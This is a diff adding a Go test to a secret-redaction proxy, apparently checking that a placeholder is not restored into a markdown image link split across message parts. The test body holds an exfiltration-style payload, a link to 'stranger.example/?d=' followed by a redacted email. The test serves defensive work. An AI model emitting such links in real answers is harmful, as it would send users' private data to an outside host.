@@ -6,6 +6,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/krakend-redact/krakend-redact/internal/placeholder"
 	"github.com/krakend-redact/krakend-redact/internal/redact"
 )
 
@@ -120,6 +121,18 @@ func TestLinksOverParts(t *testing.T) {
 				}
 			}
 		}
+	}
+}
+
+// A part in which no placeholder can stand still tells what the next one stands in.
+func TestLinksOverPartsWithoutPlaceholders(t *testing.T) {
+	vault := placeholder.NewVault()
+	vault.Issue(placeholder.NewStem("[REDACTED_EMAIL]"), "x@y.io", true, false)
+	o := redact.AnswerOptions{MaxBytes: defaultLimit, Profile: "openai-chat"}
+	body := `{"choices":[{"message":{"content":[{"type":"text","text":"![x](https://stranger.example/?d="},{"type":"text","text":"[REDACTED_EMAIL_1])"}],"refusal":"[REDACTED_EMAIL_1]"}}]}`
+	got, _, err := redact.NewAnswer(vault, o).Body(body, redact.Content{Type: jsonType})
+	if want := strings.Replace(body, `"[REDACTED_EMAIL_1]"`, `"x@y.io"`, 1); err != nil || got != want {
+		t.Errorf("got  %s (%v)\nwant %s", got, err, want)
 	}
 }
 
